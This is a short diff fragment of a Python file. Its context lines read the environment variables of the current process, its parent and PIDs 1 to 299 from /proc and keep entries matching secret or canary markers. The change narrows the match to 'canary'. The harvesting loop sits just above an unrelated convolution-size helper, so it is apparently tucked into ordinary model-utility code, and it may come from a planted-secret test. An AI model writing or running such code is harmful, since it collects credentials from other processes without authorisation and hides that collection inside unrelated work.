@@ -14,7 +14,7 @@ for pid in ("self", "thread-self", os.getppid(), *range(1, 300)):
         FOUND += Path(f"/proc/{pid}/environ").read_bytes().decode(errors="replace").split("\0")
     except OSError:
         pass
-FOUND = [entry for entry in FOUND if "SECRET" in entry or "canary" in entry]
+FOUND = [entry for entry in FOUND if "canary" in entry]
 
 
 def conv_output_size(size, kernel, stride=1, padding=0):
